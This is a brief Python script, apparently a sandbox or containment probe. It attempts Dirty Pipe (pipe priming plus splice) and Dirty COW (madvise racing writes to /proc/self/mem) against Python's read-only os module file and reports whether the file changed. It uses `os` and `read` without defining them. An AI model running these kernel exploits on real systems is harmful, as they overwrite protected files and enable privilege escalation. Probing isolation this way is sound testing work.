# Changes read-only pages in memory through pipes and mappings (Dirty Pipe, Dirty COW).
# says: unchanged
import mmap
import threading

path = os.__file__
before = read(path)
file = os.open(path, os.O_RDONLY)
out, into = os.pipe()
os.write(into, b"x" * 65536)
os.read(out, 65536)
try:
    os.splice(file, into, 1, offset_src=0)
    os.write(into, b"BROKEN")
except OSError as error:
    print("held:", error)
mapped = mmap.mmap(file, 0, mmap.MAP_PRIVATE, mmap.PROT_READ)
address = None


def throw_away():
    for _ in range(2000):
        mapped.madvise(mmap.MADV_DONTNEED)


def write():
    try:
        memory = os.open("/proc/self/mem", os.O_RDWR)
        with open("/proc/self/maps") as maps:
            start = next(
                int(line.split("-")[0], 16) for line in maps if line.rstrip().endswith(path)
            )
        for _ in range(2000):
            os.pwrite(memory, b"BROKEN", start)
    except (OSError, StopIteration) as error:
        print("held:", error)


threads = [threading.Thread(target=one) for one in (throw_away, write)]
[one.start() for one in threads]
[one.join() for one in threads]
if read(path) != before:
    print("REACHED: a read-only file was changed")
print("unchanged")
